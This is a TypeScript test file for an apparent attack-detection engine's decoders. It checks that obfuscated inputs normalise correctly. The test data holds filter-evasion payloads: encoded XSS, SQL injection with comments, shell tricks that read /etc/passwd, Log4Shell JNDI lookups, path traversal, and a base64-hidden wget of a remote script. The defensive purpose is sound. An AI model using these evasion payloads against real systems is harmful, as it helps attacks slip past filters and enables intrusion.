import { describe, expect, it } from 'vitest'
import { encode, latin1 } from '../../../src/base/bytes.ts'
import { base64, hasLongRun } from '../../../src/engine/decode/base64.ts'
import { breaks } from '../../../src/engine/decode/breaks.ts'
import { comments } from '../../../src/engine/decode/comments.ts'
import { entities } from '../../../src/engine/decode/entities.ts'
import { fillers } from '../../../src/engine/decode/fillers.ts'
import { lookups } from '../../../src/engine/decode/lookups.ts'
import { nul } from '../../../src/engine/decode/nul.ts'
import { noPlaces, type Step } from '../../../src/engine/decode/output.ts'
import { path } from '../../../src/engine/decode/path.ts'
import { percent } from '../../../src/engine/decode/percent.ts'
import { plus, plusAfterMark } from '../../../src/engine/decode/plus.ts'
import { script } from '../../../src/engine/decode/script.ts'
import { server } from '../../../src/engine/decode/server.ts'
import { shell } from '../../../src/engine/decode/shell.ts'
import { unicode } from '../../../src/engine/decode/unicode.ts'
import { utf7 } from '../../../src/engine/decode/utf7.ts'
import { strictUtf8, utf8 } from '../../../src/engine/decode/utf8.ts'
import { fastest } from '../../fastest.ts'

const bytesOf = (text: string): string => {
  const bytes = encode(text)
  return latin1(bytes, 0, bytes.length)
}

const STEPS: Readonly<Record<string, readonly [Step, readonly (readonly [string, string])[]]>> = {
  server: [
    server,
    [
      [String.raw`GET /\x22a\x5C \"b\" c\\d`, 'GET /"a\\ "b" c\\d'],
      [String.raw`a\tb\nc\q\x4`, 'a\tb\nc\\q\\x4'],
      ['trailing\\', 'trailing\\'],
    ],
  ],
  plus: [plus, [['a+b++c', 'a b  c']]],
  plusAfterMark: [
    plusAfterMark,
    [
      ['/a+b?c+d?e+f', '/a+b?c d?e f'],
      ['/a+b', '/a+b'],
    ],
  ],
  percent: [
    percent,
    [
      ['%41%zz%4', 'A%zz%4'],
      ['%2541', '%41'],
      ['%%32%65', '%2e'],
      ['%u0027%uFF07%u12', `'${bytesOf('＇')}%u12`],
      ['%c3%a9', 'Ã©'],
      ['%u3escript%u3c/', '>script</'],
    ],
  ],
  utf8: [
    utf8,
    [
      [bytesOf('é漢😀'), 'é漢😀'],
      ['\xc0\xae\xe0\x80\xaf\xf0\x80\x80\xaf\xfc\x80\x80\x80\x80\xae', './/.'],
      ['\xc1\x1c..\xc0/', '\\..'.replace('..', '..') + '/'],
      ['caf\xe9 \xff', 'café ÿ'],
    ],
  ],
  strictUtf8: [strictUtf8, [['\xc0\xae\xc3\xa9', '\xc0\xaeé']]],
  nul: [nul, [['a\0b\0', 'ab']]],
  entities: [
    entities,
    [
      ['&lt;a&#62;&#x3C;b&#0000062', '<a><b>'],
      [`&#${'0'.repeat(40)}60;`, '<'],
      ['javascript&colon;alert&lpar;1&rpar;', 'javascript:alert(1)'],
      ['&ltscript&gt', '<script>'],
      [
        '?a=1&lt=5&copy=2&nosuch;&#;&#x;&#99999999999;',
        '?a=1&lt=5&copy=2&nosuch;&#;&#x;&#99999999999;',
      ],
    ],
  ],
  unicode: [
    unicode,
    [
      ['ＳＥＬＥＣＴ＇', "SELECT'"],
      ['se\u200ble\u00adct', 'select'],
      ['ⓢⓔⓛⓔⓒⓣ 𝓼ℯ', 'select se'],
      ['1ʼ or ‘1’＝‘1', "1' or '1'='1"],
      ['‹b›⟨i⟩〈a〉', '<b><i><a>'],
      ['Größe 東京 Привет', 'Größe 東京 Привет'],
    ],
  ],
  script: [
    script,
    [
      [String.raw`\u0061\x6c\u{65}\162t`, 'alert'],
      [String.raw`\61 \6c ert \00006a`, 'alert j'],
      [String.raw`<\/script>\'`, "</script>'"],
      [String.raw`c:\boot\dir\u12 \x4`, String.raw`c:\boot\dir\u12 \x4`],
      [
        String.raw`\nid\n a\nb c:\new ..\net \\nas`,
        String.raw`${'\n'}id${'\n'} a\nb c:\new ..\net \\nas`,
      ],
      [String.raw`$\{a\}`, '${a}'],
    ],
  ],
  comments: [
    comments,
    [
      ['1/**/union/*x*/select', '1 union select'],
      ['1/*!50000union*//*!select*/2', '1 union  select 2'],
      ['a -- b\nc # d', 'a  c # d'],
      ['/* never closed', '/* never closed'],
      ['a/*b*/c/*d', 'a c/*d'],
    ],
  ],
  shell: [
    shell,
    [
      ['cat${IFS}/etc', 'cat /etc'],
      ['cat$IFS$9/etc$IFS/a', 'cat /etc /a'],
      ['w\'g\'e"t" c\\a\\t', 'wget cat'],
      ['who$@ami $*id ${9}x ${u:-y}', 'whoami id x y'],
      ['/e\'\'tc/pa""sswd', '/etc/passwd'],
      ['{cat,/etc/passwd} {"a":1,"b":2}', 'cat /etc/passwd {"a":1,"b":2}'],
      ['/b?n/c?t /e*c/pass[w]d', '/bin/cat /etc/passwd'],
      ['c^m^d', 'cmd'],
      ["it is 'quoted' text, and $HOME", "it is 'quoted' text, and $HOME"],
    ],
  ],
  path: [
    path,
    [
      ['/a/./b//c', '/a/b/c'],
      ['..\\..\\x', '../../x'],
      ['....//....//x', '../../x'],
      ['/..;/..;x=1/y', '/../../y'],
      ['..././..././x', '../../x'],
      ['/a/b.c/d', '/a/b.c/d'],
    ],
  ],
  lookups: [
    lookups,
    [
      ['${${lower:j}ndi:ldap://x}', '${jndi:ldap://x}'],
      ['${${env:X:-j}${::-n}d${upper:i}:x}', '${jndI:x}'],
      ["${date:'j'}${base64:am5kaQ==}", 'jjndi'],
      ['${jndi:ldap://${sys:java.version}.x}', '${jndi:ldap://${sys:java.version}.x}'],
      ['${a${b', '${a${b'],
    ],
  ],
  utf7: [
    utf7,
    [
      ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<script>alert(1)</script>'],
      ['+ADwAIQ-DOCTYPE', '<!DOCTYPE'],
      ['+ACIAPg- 1+A2 +About-', '"> 1+A2 +About-'],
      ['a+b+AAAA', 'a+b+AAAA'],
    ],
  ],
  breaks: [
    breaks,
    [
      ['j\n\ravascript\t:alert(1)', 'javascript:alert(1)'],
      ['a\n\n<b\n>', 'a\n\n<b\n>'],
      ['\t\na', '\t\na'],
    ],
  ],
  fillers: [
    fillers,
    [
      ['o<x>nload=al</x>ert<x>(1)', 'onload=alert<x>(1)'],
      ['on<>load', 'onload'],
      ['a <b>c</b> d<x y>e', 'a <b>c</b> d<x y>e'],
    ],
  ],
  base64: [
    base64,
    [
      ['x=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==&y', 'x=<script>alert(1)</script>==&y'],
      ['/a/b/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg', '/a/b/<script>alert(1)</script>'],
      ['d2dldCBodHRwOi8vMTkyLjAuMi4xL3guc2g', 'wget http://192.0.2.1/x.sh'],
      ['IwAR0abcDEF123ghiJKL456mnoPQR789stu', 'IwAR0abcDEF123ghiJKL456mnoPQR789stu'],
      ['VGhpcyBpcyBhbiBvcmRpbmFyeSBzZW50ZW5jZQ', 'VGhpcyBpcyBhbiBvcmRpbmFyeSBzZW50ZW5jZQ'],
    ],
  ],
}

describe.each(Object.entries(STEPS))('%s', (_, [step, cases]) => {
  it.each(cases)('%j becomes %j', (before, after) => {
    expect(step(before)).toBe(after)
  })

  it('tells where each unit came from, and writes the same when it does', () => {
    for (const [before, after] of cases) {
      const places = noPlaces()
      expect(step(before, places)).toBe(after)
      if (after === before) continue
      expect(places.starts).toHaveLength(after.length)
      expect(places.ends).toHaveLength(after.length)
      places.starts.forEach((start, i) => {
        const end = places.ends[i] ?? 0
        expect(start < end && end <= before.length).toBe(true)
        if (end === start + 1 && /[a-z]/.test(before[start] ?? ''))
          expect(after[i]).toBe(before[start])
      })
    }
  })

  it('takes linear time and never doubles a text', () => {
    for (const filler of [
      '%',
      '\\',
      '${',
      '${a}',
      '&',
      '&#',
      '/*',
      '*/',
      '/',
      '..;',
      '....//',
      '{a,',
      "'",
      '/???',
      '$a',
      '#',
      '\xc0',
      'Ab1',
    ]) {
      const text = filler.repeat(65_536 / filler.length)
      const after = step(text)
      expect(
        fastest(() => step(text), 2),
        filler,
      ).toBeLessThan(200)
      expect(after.length).toBeLessThanOrEqual(2 * text.length)
    }
  })
})

it('knows bytes that may hold base64 by a run of mixed letters and digits', () => {
  const has = (text: string): boolean => hasLongRun(encode(`##${text}##`), 2, text.length + 2)
  expect(has('x=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==')).toBe(true)
  expect(has('/assets/a-long-name/without-any/capitals-or-digits.css')).toBe(false)
  expect(has('a'.repeat(100))).toBe(false)
})
